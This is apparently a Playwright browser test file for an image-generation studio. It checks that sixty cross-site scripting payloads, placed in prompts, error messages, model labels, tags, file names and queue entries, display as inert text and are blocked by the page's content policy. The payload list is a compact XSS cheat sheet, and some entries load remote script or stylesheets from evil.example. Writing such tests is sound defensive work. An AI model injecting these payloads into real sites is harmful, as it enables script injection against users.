"""Sixty texts that would run in a careless page, in every field that is ever shown: they are read and do nothing."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import numpy as np
import pytest
from playwright.sync_api import Browser, Dialog, Page, Route, expect

from contract.ids import new_job_id
from contract.library import Changes
from contract.requests import Txt2Img
from tests.api.kit import emptied
from tests.contract.vocabulary import tokenizer
from tests.web import shelf
from tests.web.conftest import Studio, png

pytestmark = pytest.mark.browser

_RUN = "window.ran=1,alert(1)"  # what each would do
VECTORS = [
    f"<script>{_RUN}</script>", f"</title><script>{_RUN}</script>", f"</textarea><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>", f"--><script>{_RUN}</script>", f"]]><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>", f"</option></select><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>", f"<SCRIPT>{_RUN}</SCRIPT>", f"<script/x>{_RUN}</script>",
    f"<script\x0c>{_RUN}</script>", "<script src=//evil.example/x.js></script>", "<script src=data:,alert(1)></script>",
    f"<script type=module>{_RUN}</script>", "<script type=importmap>{}</script>",
    f"<img src=x onerror={_RUN}>", f'"><img src=x onerror={_RUN}>', f"'><img src=x onerror={_RUN}>",
    f"`><img src=x onerror={_RUN}>", f"<img/src=x/onerror={_RUN}>", f"<img src=x onerror\n=\n{_RUN}>",
    f'<img src=x onerror="{_RUN}"//', f"<image src=x onerror={_RUN}>", f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>", f"<svg/onload={_RUN}>", f"<svg><animate onbegin={_RUN} attributeName=x>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=9>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,{_RUN}'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>", f"<body onload={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'>", f"<iframe src='javascript:{_RUN}'>", "<iframe src=/docs>",
    f"<object data='javascript:{_RUN}'>", f"<embed src='javascript:{_RUN}'>",
    f"<a href='javascript:{_RUN}' autofocus>x</a>",
    f"<a href=' &#106;avascript:{_RUN}'>x</a>", f"<details open ontoggle={_RUN}>", f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>", f"<video><source onerror={_RUN}>", f"<audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={_RUN}>",
    "<style>*{background:url(//evil.example/x)}</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>", f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<form action='javascript:{_RUN}'><button>x</button></form>", f"<template><script>{_RUN}</script></template>",
    f'" autofocus onfocus={_RUN} x="', f"' autofocus onfocus={_RUN} x='", f"x onmouseover={_RUN} y",
    f"javascript:{_RUN}//", f"&lt;script&gt;{_RUN}&lt;/script&gt;", f"&#60;img src=x onerror={_RUN}&#62;",
    f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e", f"${{{_RUN}}}", f"}}}};{_RUN};//",
    f"constructor.constructor('{_RUN}')`` ",
    f"\u2028<img src=x onerror={_RUN}>\u202e",
]  # fmt: skip
BATCH = 21  # vectors a page; the table shows twenty jobs at first, and those that wait


def pure(vector: str) -> str:
    """The text without what no prompt may have, for a job."""
    return "".join(letter for letter in vector if letter.isprintable() or letter == "\n")


@pytest.fixture
def watched(browser: Browser, studio: Studio) -> Iterator[Page]:
    """A page that has opened nothing yet; at its end nothing has run, and nothing was reported."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    reports: list[str] = []
    context.expose_function("report", lambda text: reports.append(text))  # Playwright marks it, which no builtin takes
    context.add_init_script(
        "addEventListener('securitypolicyviolation', e => report(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`))"
    )
    page = context.new_page()

    def refuse(dialog: Dialog) -> None:
        reports.append(f"dialog {dialog.message}")
        dialog.dismiss()

    page.on("dialog", refuse)
    page.on("pageerror", lambda error: reports.append(str(error)))
    page.on("request", lambda asked: reports.append(asked.url) if "evil" in asked.url.partition("?")[0] else None)
    yield page
    assert page.evaluate("window.ran") is None
    context.close()
    assert reports == []


def publish(studio: Studio, vectors: list[str]) -> None:
    """Models whose labels and descriptions are the vectors; the first is the one that is used."""
    (known,) = studio.store.models().values()
    studio.store.publish_tokenizer(known, tokenizer().dump)
    models = [
        known.model_copy(update={"name": f"m{at}" if at else known.name, "label": text, "description": text})
        for at, text in enumerate(vectors)
    ]
    (worker,) = studio.store.workers()
    studio.present(worker.model_copy(update={"models": models, "device": vectors[0], "host": vectors[0]}))


def work(studio: Studio, number: int, vector: str) -> None:
    """A job with the vector for a prompt: it succeeds with a picture, or fails with the vector for a reason."""
    request = Txt2Img(
        prompt=pure(vector), negative_prompt=pure(vector), model=studio.model, width=128, height=128, seed=number
    )
    job_id = f"job_{'abcdefghijklmnopqrstuvwxyz234567'[number % 32]}{'ab'[number // 32]}{'c' * 24}"
    studio.store.submit(job_id, request, owner="local", steps=20, inputs={}, max_queue=99)
    job = studio.store.get(job_id)
    assert job is not None
    claim = studio.claim(job)
    if number % 2:
        studio.fail(claim, vector)
    else:
        studio.picture(claim, 0, np.full((16, 16, 3), 90, np.uint8))
        studio.finish(claim)


TRY_ALL = """() => {
  const ways = [
    () => { document.body.innerHTML = "<b>x</b>"; },
    () => { document.body.insertAdjacentHTML("beforeend", "<b>x</b>"); },
    () => { document.write("x"); },
    () => { document.createElement("script").text = "1"; },
  ];
  const refused = (way) => { try { way(); } catch (error) { return error instanceof TypeError; } return false; };
  return ways.filter(refused).length;
}"""


def test_there_are_sixty() -> None:
    assert len(set(VECTORS)) >= 60


@pytest.mark.parametrize("begin", range(0, len(VECTORS), BATCH))
def test_what_is_stored_is_shown_as_text(watched: Page, studio: Studio, begin: int) -> None:
    """Prompts, reasons of failure, labels of models and the names of pictures, as the page finds them on the server."""
    vectors = VECTORS[begin : begin + BATCH]
    publish(studio, vectors)
    for number, vector in enumerate(vectors):
        work(studio, begin + number, vector)
    page = watched
    page.goto(studio.url)
    expect(page.locator(".job")).to_have_count(20)
    if len(vectors) > 20:
        page.click("#older")
        expect(page.locator(".job")).to_have_count(len(vectors))
    shown = page.locator(".job .asked").evaluate_all("nodes => nodes.map(node => node.textContent)")
    assert sorted(shown) == sorted(map(pure, vectors))
    failed = page.locator(".job[data-state=failed] .failure").first
    assert failed.text_content() in vectors
    expect(page.locator("#model option")).to_have_count(len(vectors))
    for picture in page.locator(".result img").all():
        picture.hover(force=True)
    page.locator(".result .enlarge").first.click()
    expect(page.locator("#viewer img")).to_be_visible()
    page.keyboard.press("Escape")
    page.locator(".job").first.get_by_text("Same settings").or_(page.get_by_label("Same settings").first).first.click()
    expect(page.locator("#prompt")).not_to_have_value("")


def test_what_is_typed_and_what_the_server_says_is_text(watched: Page, studio: Studio) -> None:
    """Styles, errors of the API word by word, prompts in the form, and names of files that are dropped."""
    page, vectors = watched, VECTORS
    publish(studio, vectors[:1])
    styles = [{"name": text, "prompt": text, "negative_prompt": text} for text in vectors]
    answers = iter(vectors)

    def refuse(route: Route) -> None:
        text = next(answers)
        told: dict[str, Any] = {
            "title": text, "status": 422, "detail": text, "instance": text,
            "errors": [{"loc": ["body", "prompt"], "msg": text}, {"loc": ["body", text], "msg": text}],
        }  # fmt: skip
        route.fulfill(status=422, content_type="application/problem+json", body=json.dumps(told))

    page.route("**/api/v1/styles", lambda route: route.fulfill(json=styles))
    page.goto(studio.url)
    page.wait_for_selector("#width[placeholder='128']")
    expect(page.locator("#styles option")).to_have_count(len(vectors) + 1)
    page.route("**/api/v1/jobs", lambda route: refuse(route) if route.request.method == "POST" else route.fallback())
    for vector in vectors:
        page.fill("#prompt", pure(vector))
        page.click("#generate")
        expect(page.locator("#problem")).to_be_visible()
        expect(page.locator("#prompt-error")).not_to_be_empty()
    assert page.locator("#problem script, #problem img, #problem svg[onload]").count() == 0
    picture = png(np.full((64, 64, 3), 9, np.uint8))
    for vector in vectors[16:20]:
        page.set_input_files(
            "#image-file", {"name": f"{vector}.png".replace("/", "|"), "mimeType": "image/png", "buffer": picture}
        )
        page.wait_for_selector("#mask-canvas")
        page.click("#remove-image")


def test_what_the_library_keeps_is_shown_as_text(watched: Page, studio: Studio) -> None:
    """Prompts, tags, boards, what an upload's file said, and what a file that is read says, on the library's pages."""
    page, vectors = watched, VECTORS
    emptied(studio.library)
    publish(studio, vectors[:1])
    ids = shelf.put(studio, *map(pure, vectors), negative_prompt=pure(vectors[0]))
    for image_id, vector in zip(ids, vectors, strict=True):
        name = " ".join(pure(vector).split())
        studio.library.change(image_id, Changes(tags=[name], board=name))
    sent = studio.library.get(ids[0])
    assert sent is not None
    said = {"parameters": vectors[16], vectors[17]: vectors[18]}
    upload = sent.model_copy(update={"id": f"img_{'b' * 26}", "job_id": None, "index": None, "metadata": said})
    assert studio.library.add(upload)
    page.goto(f"{studio.url}/library?tag={quote(vectors[16])}&board={quote(vectors[17])}&q={quote(vectors[18])}")
    expect(page.locator("#nothing")).to_contain_text("Nothing found")
    page.goto(f"{studio.url}/library")
    expect(page.locator(".cell.there").first).to_be_visible()
    names = page.locator(".cell").evaluate_all("cells => cells.map(cell => cell.ariaLabel)")
    assert set(names) - {"A picture that was sent"} <= {nameless(vector) for vector in vectors}
    assert len(names) >= 20
    page.focus("#grid")
    page.keyboard.press("Control+a")
    page.click("#choose-tag")
    expect(page.locator("#labels .chip")).to_have_count(len({" ".join(pure(vector).split()) for vector in vectors}))
    page.keyboard.press("Escape")
    page.goto(f"{studio.url}/library/{ids[0]}")
    for vector in vectors:
        expect(page.locator("#sheet .asked")).to_have_text(pure(vector).strip() or "Without a prompt")
        expect(page.locator("#sheet .told")).to_be_visible()
        page.keyboard.press("ArrowLeft")
    expect(page.locator("#sheet .asked")).to_have_text("A picture that was sent")
    expect(page.locator("#sheet pre")).to_contain_text("onerror")
    told = {
        "source": "unknown", "parameters": {text: text for text in vectors}, "texts": {text: text for text in vectors},
        "request": None, "notes": vectors,
    }  # fmt: skip
    page.route("**/api/v1/read", lambda route: route.fulfill(json=told))
    picture = png(np.full((64, 64, 3), 9, np.uint8))
    page.set_input_files("#image-file", {"name": f"{vectors[16]}.png", "mimeType": "image/png", "buffer": picture})
    expect(page.locator("#reading dd")).to_have_count(len(set(vectors)))


def test_what_the_queue_shows_is_text(watched: Page, studio: Studio) -> None:
    """Prompts that wait, failed and crashed their worker, why they did, and what workers say of themselves."""
    page, vectors = watched, VECTORS
    publish(studio, vectors[:4])
    for at, vector in enumerate(vectors[16:20]):
        work(studio, 2 * at + 1, vector)
    for vector in vectors:
        request = Txt2Img(prompt=pure(vector), model=studio.model, width=128, height=128, seed=1)
        studio.store.submit(new_job_id(), request, owner="local", steps=20, inputs={}, max_queue=99)
    letter = {
        "id": f"job_{'d' * 26}", "owner": vectors[17], "kind": "txt2img", "request": request.model_dump_json(),
        "reason": vectors[18], "strikes": 2, "attempts": 3, "died_at": 1,
    }  # fmt: skip
    for name, value in letter.items():
        studio.store.redis.hset(f"darkroom:letter:{letter['id']}", name, str(value))
    studio.store.redis.zadd("darkroom:dead", {str(letter["id"]): 1})
    page.goto(f"{studio.url}/queue")
    expect(page.locator("#active .row")).to_have_count(len(vectors))
    asked = page.locator("#active .row-asked").all_text_contents()
    assert set(asked) == {pure(vector) or "Without a prompt" for vector in vectors}
    expect(page.locator("#ended .row-failure")).to_have_count(4)
    assert set(page.locator("#ended .row-failure").all_text_contents()) == set(vectors[16:20])
    expect(page.locator(".letter")).to_contain_text("onerror")
    expect(page.locator(".worker h3")).to_have_text(vectors[0])
    assert page.locator("main :is(script, iframe, object, embed, [onerror], [onload])").count() == 0


def nameless(vector: str) -> str:
    """What the grid calls a picture of this prompt."""
    prompt = pure(vector) or "Without a prompt"
    return f"{prompt[:140]}…" if len(prompt) > 140 else prompt


def test_a_script_that_stood_in_the_page_would_be_stopped(browser: Browser, studio: Studio) -> None:
    """The second wall: were markup ever to come in, the policy would not let it run."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(studio.url)
    stopped = page.evaluate(TRY_ALL)
    assert stopped == 4
    context.close()
